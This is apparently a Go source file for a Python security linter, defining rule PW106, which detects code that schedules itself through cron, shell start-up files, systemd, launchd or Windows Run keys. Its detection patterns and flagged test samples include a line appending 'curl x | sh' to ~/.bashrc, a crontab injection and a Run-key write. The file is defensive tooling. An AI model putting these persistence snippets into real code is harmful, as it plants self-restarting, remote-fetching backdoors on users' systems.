package rules

import (
	"github.com/pyward/pyward/python/ast"
)

// persistencePath matches places where a program makes itself start
// again: cron, shell start-up files, systemd and XDG autostart, launchd,
// the Windows Run keys and Startup folders.
var persistencePath = lazyRegexp(`(?i)(?:/etc/cron|/var/spool/cron|/etc/crontab|\.bashrc|\.bash_profile|\.bash_login|\.zshrc|\.zprofile|\.profile$|/etc/profile|/etc/rc\.local|/etc/init\.d/|systemd/system/|systemd/user/|\.config/autostart|/LaunchAgents/|/LaunchDaemons/|CurrentVersion\\+Run|Start Menu\\+Programs\\+Startup|Start Menu/Programs/Startup)`)

// persistenceCmd matches commands that install a scheduled or start-up
// job.
var persistenceCmd = lazyRegexp(`(?i)(?:\|\s*crontab\b|\bcrontab\s+(?:-u\s+\S+\s+)?(?:-\s|-$|[^-\s])|\bschtasks\s+/create\b|\bsystemctl\s+(?:--user\s+)?enable\b|\blaunchctl\s+(?:load|bootstrap)\b|\breg\s+add\s+\S*CurrentVersion\\+Run)`)

func init() {
	Register(&Rule{
		ID: "PW106", Name: "persistence", Severity: High, Confidence: Medium, CWE: 506,
		Message:        "the code installs itself or a command to run again later (cron, shell start-up, services, Run keys)",
		Recommendation: "A package or script should not schedule itself; if a service is needed, document it for the administrator to install.",
		Help: "Writing to crontabs, shell start-up files (.bashrc, .profile), systemd units, XDG autostart, launchd agents, the Windows Run keys or Startup folder, " +
			"or running `crontab -`, `schtasks /create`, `systemctl enable`, `launchctl load`, makes code run again at every boot or login: how malware survives a reboot.",
		Flagged: []string{
			"import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write('curl x | sh\\n')\n",
			"import subprocess\nsubprocess.run('(crontab -l; echo \"* * * * * /tmp/x\") | crontab -', shell=True)\n",
			"import winreg\nk = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r'Software\\Microsoft\\Windows\\CurrentVersion\\Run', 0, winreg.KEY_SET_VALUE)\nwinreg.SetValueEx(k, 'upd', 0, winreg.REG_SZ, exe)\n",
		},
		Clean: []string{
			"open(os.path.expanduser('~/.bashrc')).read()\n",
			"import subprocess\nsubprocess.run(['crontab', '-l'])\n",
		},
		Kinds: []Kind{KindCall},
		CallWhen: func(q, method string) bool {
			return processFuncs[q] || writeTargetName(q, method) || persistenceKeys[q]
		},
		Check: func(c *Context, n ast.Node) {
			call := n.(*ast.Call)
			if cmd, ok := c.processCall(call); ok {
				if persistenceCmd.MatchString(cmd) {
					c.Report(call)
				}
				return
			}
			if p, what, ok := c.writeTarget(call); ok && what != "removes" {
				if persistencePath.MatchString(c.foldPrefix(p)) {
					c.Report(call)
				}
				return
			}
			if persistenceKeys[c.CallName(call)] && len(call.Args) > 1 {
				if s, ok := fold(call.Args[1]); ok && persistencePath.MatchString(s) && writesRegistry(c, call) {
					c.Report(call)
				}
			}
		},
	})
}

// persistenceKeys are the registry calls PW106 checks.
var persistenceKeys = setOf("winreg.OpenKey", "winreg.OpenKeyEx", "winreg.CreateKey", "winreg.CreateKeyEx", "_winreg.OpenKey", "_winreg.CreateKey")

// writesRegistry: CreateKey always may write; OpenKey only with write
// access in its arguments.
func writesRegistry(c *Context, call *ast.Call) bool {
	if q := c.CallName(call); q == "winreg.CreateKey" || q == "winreg.CreateKeyEx" || q == "_winreg.CreateKey" {
		return true
	}
	found := false
	for _, a := range call.Args[min(2, len(call.Args)):] {
		ast.Inspect(a, func(n ast.Node) bool {
			if at, ok := n.(*ast.Attribute); ok && (at.Attr == "KEY_SET_VALUE" || at.Attr == "KEY_WRITE" || at.Attr == "KEY_ALL_ACCESS") {
				found = true
			}
			return true
		})
	}
	for _, kw := range call.Keywords {
		ast.Inspect(kw.Value, func(n ast.Node) bool {
			if at, ok := n.(*ast.Attribute); ok && (at.Attr == "KEY_SET_VALUE" || at.Attr == "KEY_WRITE" || at.Attr == "KEY_ALL_ACCESS") {
				found = true
			}
			return true
		})
	}
	return found
}
